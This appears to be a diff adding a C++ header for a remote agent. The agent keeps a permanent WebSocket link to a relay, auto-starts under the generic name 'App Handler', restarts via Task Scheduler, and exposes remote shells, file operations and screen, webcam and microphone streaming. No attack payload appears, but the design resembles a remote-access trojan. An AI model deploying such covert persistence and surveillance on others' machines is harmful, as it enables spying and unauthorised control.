@@ -0,0 +1,201 @@
+#pragma once
+
+// Shared by the platform-neutral agent core (Agent.cpp) and the platform backends
+// (PlatformWin.cpp, PlatformLinux.cpp): configuration, connection state and the outbound
+// send path the backends feed media and status messages into.
+
+#include "Platform.h"
+#include "WebSocket.h"
+
+#include <atomic>
+#include <string>
+#include "json.hpp"
+
+using json = nlohmann::json;
+
+namespace Config {
+    // Debug Mode
+#ifdef _DEBUG
+
+    const bool DEBUG_MODE = true;                    // Set false for production
+#else
+	const bool DEBUG_MODE = false;                   // Set false for production
+#endif
+    // WebSocket Server Configuration
+    const wchar_t* const SERVER_HOST = L"localhost"; // domain or localhost
+    const int SERVER_PORT = 9991;                    // Change to your server port
+    const bool USE_SSL = false;                      // Set true for ssl
+
+    // Application Settings
+    const wchar_t* const APP_NAME = L"App Handler";  // Name in registry
+    const bool AUTO_START = true;                    // Enable auto-start on login (ignored if DEBUG_MODE)
+    const bool AUTO_RESTART_ON_CRASH = true;         // Enable Task Scheduler auto-restart
+
+    // Reconnection Settings
+    const int RECONNECT_DELAY_MS = 5000;             // Delay before reconnect (ms)
+    const int MAX_RECONNECT_ATTEMPTS = 0;            // 0 = infinite retry
+    const int RECONNECT_BACKOFF_MAX_MS = 60000;      // Max backoff delay (1 minute)
+    const bool USE_EXPONENTIAL_BACKOFF = true;       // Increase delay on repeated failures
+    
+    // Keep-Alive Settings
+    const int KEEP_ALIVE_INTERVAL_MS = 30000;        // Send ping every 30 seconds to prevent timeout
+    const int METRICS_INTERVAL_MS = 2000;            // Host metrics are sent this often
+    const int WS_HANDSHAKE_TIMEOUT_MS = 10000;       // The upgrade response must arrive within this
+    const int WS_CLOSE_TIMEOUT_MS = 2000;            // A close waits this long for the server's answer
+    const bool WS_DEFLATE = true;                    // Offer permessage-deflate (RFC 7692) to the relay
+    const int WS_DEFLATE_CLIENT_WINDOW_BITS = 15;    // Our compressor's window (8-15); smaller saves memory, ratio suffers
+    const int WS_DEFLATE_SERVER_WINDOW_BITS = 15;    // Window asked of the relay's compressor (8-15)
+    const bool WS_DEFLATE_CLIENT_CONTEXT_TAKEOVER = true; // Our messages may refer back to earlier ones; small JSON gains most
+    const bool WS_DEFLATE_SERVER_CONTEXT_TAKEOVER = true; // Asked of the relay
+    const size_t WS_DEFLATE_MIN_BYTES = 64;          // Smaller messages go out uncompressed
+
+    // Outbound Queue Settings
+    const size_t SEND_QUEUE_MAX_MESSAGES = 1024;     // Per lane; producers block (or drop media) beyond this depth
+    const size_t SEND_QUEUE_MAX_BYTES = 32 * 1024 * 1024; // Per lane; producers block (or drop media) beyond this many bytes
+    const size_t SEND_SLICE_BYTES = 64 * 1024;       // Bulk messages are sent in slices of this size
+    const int SEND_STARVATION_LIMIT = 8;             // A waiting lane is served after being passed over this often
+    const size_t SEND_BATCH_MAX_BYTES = 256 * 1024;  // Queued messages gathered into one socket write
+
+    // Session Resumption Settings
+    const bool SESSION_RESUME = true;                // Offer the "resume" cap: a dropped connection picks up where it left off
+    const size_t RESUME_BUFFER_BYTES = 16 * 1024 * 1024; // Sent messages kept until the relay acknowledges them
+    const size_t RESUME_BUFFER_MESSAGES = 8192;      // ...and at most this many; past either, the oldest go
+    const unsigned long long RESUME_TIMEOUT_MS = 60000;       // A dropped session is given up after this; the relay keeps it as long
+
+    // Channel Settings
+    const size_t CHANNEL_MAX_OPEN = 32;              // Channels open at the same time
+    const size_t CHANNEL_MAX_TERMINALS = 8;          // ...of which terminals, each its own shell
+    const long long CHANNEL_WINDOW_BYTES = 1024 * 1024; // Default bytes a channel may have unacknowledged by the relay
+    const long long CHANNEL_MIN_WINDOW_BYTES = 16 * 1024; // Smallest window a caller may ask for
+    const long long CHANNEL_MAX_WINDOW_BYTES = 64 * 1024 * 1024; // Largest window a caller may ask for
+
+    // Inbound Settings
+    const size_t RECEIVE_BUFFER_BYTES = 64 * 1024;   // Socket read buffer; messages that fit are dispatched from it in place
+    const size_t MAX_INBOUND_MESSAGE_BYTES = 64 * 1024 * 1024; // Larger reassembled messages are dropped
+    const size_t BUFFER_POOL_MAX_BUFFERS = 8;        // Idle buffers kept for reuse
+    const size_t BUFFER_POOL_MAX_RETAINED_BYTES = 8 * 1024 * 1024; // Bigger buffers are freed instead of pooled
+    const size_t WORKER_THREADS = 4;                 // Request handlers run here, off the I/O thread
+
+    // File Transfer Settings
+    const size_t UPLOAD_MAX_CHUNK_BYTES = 16 * 1024 * 1024;   // Larger upload_write chunks are rejected
+    const size_t UPLOAD_MAX_PENDING_BYTES = 32 * 1024 * 1024; // Per transfer; chunks queued beyond this are refused
+    const size_t UPLOAD_MAX_TRANSFERS = 16;          // Uploads open at the same time
+    const unsigned long long UPLOAD_IDLE_TIMEOUT_MS = 10 * 60 * 1000; // Idle uploads are closed; the part file stays for resume
+    const size_t STREAM_CHUNK_BYTES = 1024 * 1024;   // Default chunk size of a "stream" download
+    const size_t STREAM_MAX_CHUNK_BYTES = 8 * 1024 * 1024; // Largest chunk size a receiver may ask for
+    const long long STREAM_DEFAULT_CREDITS = 4;      // Chunks sent before the receiver's first stream_credit
+    const long long STREAM_MAX_CREDITS = 64;         // Cap on outstanding credits per stream
+    const size_t STREAM_MAX_ACTIVE = 8;              // Downloads streaming at the same time
+    const size_t COMPRESS_MIN_BYTES = 512;           // Smaller file chunks are never compressed
+    const double COMPRESS_SKIP_ENTROPY_BITS = 7.5;   // Chunks sampling above this (zip, jpg, mp4) go out as-is
+    const size_t DELTA_MIN_BLOCK_BYTES = 256;        // Smallest delta block size a peer may ask for
+    const size_t DELTA_MAX_BLOCK_BYTES = 1024 * 1024; // Largest delta block size a peer may ask for
+    const size_t DELTA_MAX_OPS_PER_REPLY = 4096;     // A delta_read reply is cut after this many ops
+    const size_t HASH_MAX_THREADS = 8;               // Files hashed at once by one "hash" request
+    const size_t HASH_MAX_ENTRIES_PER_REPLY = 1024;  // A hash progress reply is cut after this many entries
+    const unsigned long long HASH_PROGRESS_INTERVAL_MS = 500; // Pending entries are flushed at least this often
+    const size_t LS_PAGE_ENTRIES = 1000;             // Default page size of a paged or streamed "ls"
+    const size_t LS_MAX_PAGE_ENTRIES = 10000;        // Largest page size a caller may ask for
+    const size_t WATCH_CACHE_MAX_DIRS = 64;          // Directories kept cached and watched
+    const size_t WATCH_CACHE_MAX_ENTRIES = 100000;   // Bigger directories are watched but not cached
+    const size_t WATCH_BUFFER_BYTES = 64 * 1024;     // Change records per read; an overflow forces a resync
+    const size_t DU_SCANNER_THREADS = 8;             // Directories read at once by one "du"; disk-bound, so not tied to cores
+    const size_t DU_TOP_ENTRIES = 20;                // Default length of each ranking in a "du" reply
+    const size_t DU_MAX_TOP_ENTRIES = 100;           // Longest ranking a caller may ask for
+    const unsigned long long DU_PROGRESS_INTERVAL_MS = 1000;  // Partial results are sent this often
+    const size_t DU_MAX_ERRORS = 100;                // Unreadable directories listed; the rest are only counted
+    const size_t DU_CACHE_MAX_DIRS = 1000000;        // Directories remembered between scans
+    const size_t DU_CACHE_FILES_PER_DIR = 10;        // Largest files remembered per directory
+    const size_t SEARCH_SCANNER_THREADS = 8;         // Directories searched at once by one "search"
+    const size_t SEARCH_MAX_ACTIVE = 4;              // Searches running at the same time
+    const size_t SEARCH_MAX_RESULTS = 10000;         // Default hit cap; the search stops there
+    const size_t SEARCH_MAX_RESULTS_LIMIT = 1000000; // Largest hit cap a caller may ask for
+    const size_t SEARCH_MAX_RESULTS_PER_REPLY = 1000; // A search reply is cut after this many hits
+    const size_t SEARCH_MAX_LINES_PER_FILE = 100;    // Default matching lines reported per file
+    const size_t SEARCH_MAX_LINES_PER_FILE_LIMIT = 1000; // Largest per-file line cap a caller may ask for
+    const size_t SEARCH_MAX_LINE_BYTES = 512;        // Longer matching lines are cut
+    const size_t SEARCH_BINARY_PROBE_BYTES = 8192;   // A NUL this early marks a file binary
+    const size_t SEARCH_MAX_ERRORS = 100;            // Unreadable paths listed; the rest are only counted
+    const unsigned long long SEARCH_PROGRESS_INTERVAL_MS = 1000; // Progress goes out at least this often
+    const size_t ARCHIVE_MAX_ERRORS = 100;           // Unreadable paths listed by "pack"; the rest are only counted
+    const size_t TREE_OP_THREADS = 8;                // Directories handled at once by one copy, move or delete
+    const size_t TREE_OP_MAX_ACTIVE = 2;             // Copies, moves and deletes running at the same time
+    const size_t TREE_OP_COPY_BUFFER_BYTES = 4 * 1024 * 1024; // Per scanner; page-aligned for unbuffered I/O
+    const unsigned long long TREE_OP_UNBUFFERED_MIN_BYTES = 64ULL * 1024 * 1024; // Larger files skip the cache
+    const size_t TREE_OP_SECTOR_BYTES = 4096;        // Unbuffered writes are rounded up to this
+    const size_t TREE_OP_MAX_ERRORS = 100;           // Failed entries listed; the rest are only counted
+    const unsigned long long TREE_OP_PROGRESS_INTERVAL_MS = 1000; // Progress goes out this often
+    const size_t BATCH_MAX_OPERATIONS = 1000;        // Operations in one "batch"
+    const size_t BATCH_THREADS = 8;                  // Lookups of one batch run at once
+    const size_t BATCH_MAX_READ_BYTES = 16 * 1024 * 1024; // "read" data one batch reply may carry
+    const size_t TAIL_DEFAULT_LINES = 100;           // Lines a "tail" returns when none are asked for
+    const size_t TAIL_MAX_LINES = 100000;            // Most lines a caller may ask for
+    const size_t TAIL_BLOCK_BYTES = 64 * 1024;       // The backward line scan reads this much at a time
+    const unsigned long long TAIL_MAX_BYTES = 4 * 1024 * 1024; // The initial tail is cut to this many bytes
+    const unsigned long long TAIL_COALESCE_MS = 200;          // Appends within this window of the first go out together
+    const size_t TAIL_MAX_CHUNK_BYTES = 1024 * 1024; // Largest follow reply
+    const size_t TAIL_MAX_ACTIVE = 8;                // Files followed at the same time
+    const unsigned long long TAIL_POLL_MS = 1000;             // The size is rechecked this often without a notification
+
+    // Terminal Settings
+    const int CONSOLE_WIDTH = 120;                   // Terminal columns
+    const int CONSOLE_HEIGHT = 30;                   // Terminal rows
+
+    // Version
+    const wchar_t* const APP_VERSION = L"1.0.0";
+
+    // User ID, get id in dashboard
+    const wchar_t* const USER_ID = L""; 
+}
+
+// Optional protocol features, advertised in the connect query and confirmed by the relay
+enum PeerCap : unsigned int {
+    PEER_CAP_SLICE = 1 << 0,    // relay reassembles slice frames
+    PEER_CAP_BINARY = 1 << 1,   // relay speaks binary frame format v1
+    PEER_CAP_LZ4 = 1 << 2,      // relay inflates LZ4-compressed file chunks
+    PEER_CAP_RESUME = 1 << 3,   // relay acknowledges sequenced messages and keeps the session across reconnects
+    PEER_CAP_CHANNELS = 1 << 4, // relay routes channel ids and grants channel credit
+};
+
+// Lanes in strict priority order; lower values are always served first unless a lane is starving.
+enum class SendLane : int {
+    Control = 0,       // pings, metrics, status replies
+    Interactive,       // terminal output
+    Transfer,          // filesystem replies
+    Media,             // screenshots and stream frames
+    Count
+};
+
+struct AppState {
+    std::atomic<bool> running{ true };
+    std::atomic<bool> wsConnected{ false };
+    std::atomic<bool> resumePending{ false };     // Dropped, but the session may still resume: keep queueing
+    std::atomic<bool> shouldReconnect{ true };
+    std::atomic<unsigned int> peerCaps{ 0 };
+    int reconnectAttempts = 0;
+    unsigned long long lastPingTime = 0;
+    unsigned long long lastMetricsTime = 0;
+
+    // Streaming state
+    std::atomic<bool> isStreamingScreen{ false };
+    std::atomic<bool> isStreamingCam{ false };
+    std::atomic<bool> isStreamingMic{ false };
+    std::string currentDeviceId;
+};
+
+extern AppState g_state;
+
+std::string WideToUtf8(const std::wstring& wstr);
+std::wstring Utf8ToWide(const std::string& str);
+
+// Queues one WebSocket message; false once the session is gone (or, with dropIfFull,
+// when the lane is full). While a dropped session may still resume, messages keep queueing.
+bool EnqueueWsMessage(SendLane lane, WsMessageType type, std::string payload, bool dropIfFull = false);
+bool SendWsMessage(const json& msg, SendLane lane = SendLane::Control);
+// Like EnqueueWsMessage, on an opened channel: its own lane and window apply, and false once
+// it is closed. Channel 0 is the implicit one and goes out on lane.
+bool EnqueueChannelMessage(unsigned int channel, SendLane lane, WsMessageType type, std::string payload, bool dropIfFull = false);
+
+// Connects, serves and reconnects until the agent is told to stop; the platform entry
+// point calls this once the backend is initialized. Returns the process exit code.
+int RunAgent();